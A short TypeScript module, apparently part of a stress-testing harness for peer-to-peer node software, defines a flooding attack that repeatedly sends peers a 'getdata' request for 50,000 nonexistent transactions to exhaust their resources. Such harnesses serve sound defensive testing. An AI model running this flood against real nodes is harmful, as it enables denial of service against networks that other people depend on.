import { InventoryType } from '@sapwood/wire-codec'
import { A_FEW, type Attack } from '../support/attack.ts'
import { flood } from '../support/flood.ts'
import { list } from '../support/payloads.ts'

const request = list('getdata', 50_000, InventoryType.WTX)

export const attack: Attack = flood({
  what: 'ask for 50,000 transactions that nobody has, again and again, and read every answer',
  peers: A_FEW,
  times: 1,
  messages: () => [request],
})
